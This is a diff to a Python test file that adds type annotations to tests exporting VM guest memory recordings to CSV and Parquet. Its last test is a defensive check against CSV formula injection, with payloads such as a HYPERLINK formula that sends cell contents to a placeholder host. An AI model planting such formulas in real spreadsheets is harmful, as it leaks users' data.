@@ -1,5 +1,7 @@
 """A recording as tables, opened with the tools that people have."""
 
+from __future__ import annotations
+
 import csv
 import re
 import sys
@@ -37,7 +39,9 @@ def guest_rows(reports: list[Report], field: str) -> list[tuple[str, Any]]:
 
 
 @pytest.mark.parametrize("kind", ["parquet", "csv"])
-def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(recording, reports, tmp_path, kind):
+def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(
+    recording: Path, reports: list[Report], tmp_path: Path, kind: str
+) -> None:
     out = tmp_path / "out"
     done = export(recording, "--to", kind, "-o", out)
     assert done.exit_code == 0, done.exception
@@ -61,18 +65,20 @@ def test_duckdb_and_pandas_open_the_tables_and_find_what_was_recorded(recording,
     assert begins == pytest.approx(reports[0].time, abs=1e-3)
 
 
-def test_the_question_in_the_documents_is_answered_by_the_tables(recording, reports, tmp_path, monkeypatch):
+def test_the_question_in_the_documents_is_answered_by_the_tables(
+    recording: Path, reports: list[Report], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     export(recording, "--to", "parquet", "-o", tmp_path / "friday")
     (query,) = re.findall(r"```sql\n(.*?)```", (Path(__file__).parents[2] / "docs/recordings.md").read_text(), re.DOTALL)
     monkeypatch.chdir(tmp_path)
     answer = duckdb.connect().sql(query.rstrip().rstrip(";")).project("guest_name, mib, why").fetchall()  # times would take pytz
-    given = [o for r in reports for o in r.outcomes if o.decision.control == "balloon_target" and o.decision.value > o.before]
+    given = [o for r in reports for o in r.outcomes if o.decision.control == "balloon_target" and o.decision.value > o.before]  # type: ignore[operator]  # KiB
     assert given
-    assert [(name, mib) for name, mib, _ in answer] == [(o.decision.entity.name, (o.decision.value - o.before) / 1024) for o in given]
+    assert [(name, mib) for name, mib, _ in answer] == [(o.decision.entity.name, (o.decision.value - o.before) / 1024) for o in given]  # type: ignore[operator]  # KiB
     assert all(why for _, _, why in answer)
 
 
-def test_guests_and_times_are_chosen(recording, reports, tmp_path):
+def test_guests_and_times_are_chosen(recording: Path, reports: list[Report], tmp_path: Path) -> None:
     name = next(o.decision.entity.name for r in reports for o in r.outcomes if o.decision.entity.scope is Scope.GUEST)
     since, until = "2023-11-14T22:15:00", "2023-11-14T22:17:00+00:00"
     done = export(
@@ -90,7 +96,7 @@ def test_guests_and_times_are_chosen(recording, reports, tmp_path):
     assert {one for (one,) in decided if one} <= {one for (one,) in guests}
 
 
-def test_nothing_is_left_behind_and_nothing_is_overwritten(recording, tmp_path):
+def test_nothing_is_left_behind_and_nothing_is_overwritten(recording: Path, tmp_path: Path) -> None:
     (tmp_path / "full").mkdir()
     (tmp_path / "full" / "mine").write_text("mine")
     for output, arguments, message in (
@@ -106,13 +112,13 @@ def test_nothing_is_left_behind_and_nothing_is_overwritten(recording, tmp_path):
 
 
 @pytest.mark.parametrize("arguments", [("--to", "excel"), (), ("--to", "csv", "--to", "parquet"), ("--to", "csv", "--to", "soon")])
-def test_a_format_or_time_that_there_is_not_is_misuse(recording, tmp_path, arguments):
+def test_a_format_or_time_that_there_is_not_is_misuse(recording: Path, tmp_path: Path, arguments: tuple[str, ...]) -> None:
     done = export(recording, *arguments, "-o", tmp_path / "x")
     assert done.exit_code == 2
     assert "--to" in done.output
 
 
-def test_a_damaged_cycle_is_left_out_and_told(recording, reports, tmp_path):
+def test_a_damaged_cycle_is_left_out_and_told(recording: Path, reports: list[Report], tmp_path: Path) -> None:
     (file,) = files_of(recording)
     content = bytearray(file.read_bytes())
     content[-20] ^= 1
@@ -123,7 +129,9 @@ def test_a_damaged_cycle_is_left_out_and_told(recording, reports, tmp_path):
     assert list(pd.read_csv(tmp_path / "out" / "host.csv")["cycle"]) == [report.number for report in reports[:-1]]
 
 
-def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(recording, tmp_path, monkeypatch):
+def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(
+    recording: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setitem(sys.modules, "pyarrow", None)
     assert export(recording, "--to", "csv", "-o", tmp_path / "text").exit_code == 0
     done = export(recording, "--to", "parquet", "-o", tmp_path / "out")
@@ -131,7 +139,7 @@ def test_csv_needs_no_pyarrow_and_parquet_says_how_it_is_installed(recording, tm
     assert not (tmp_path / "out").exists()
 
 
-def test_whole_numbers_stay_whole_in_csv(recording, reports, tmp_path):
+def test_whole_numbers_stay_whole_in_csv(recording: Path, reports: list[Report], tmp_path: Path) -> None:
     export(recording, "--to", "csv", "-o", tmp_path / "out")
     with (tmp_path / "out" / "guests.csv").open(newline="") as file:
         row = next(csv.DictReader(file))
@@ -140,7 +148,7 @@ def test_whole_numbers_stay_whole_in_csv(recording, reports, tmp_path):
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1)", "+1", "-1+1", "\t=1"])
-def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path, name):
+def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path: Path, name: str) -> None:
     session = replace(SESSION, fields=tuple(FieldSpec(one, Unit.TEXT, Scope.GUEST, "") for one in (name, "time")))
     guest = Guest("id", name, {name: name, "time": "x"})
     one = Report(1, 5.0, "enforce", Snapshot(Host(name), {"id": guest}, 5.0, 5.0, 1),
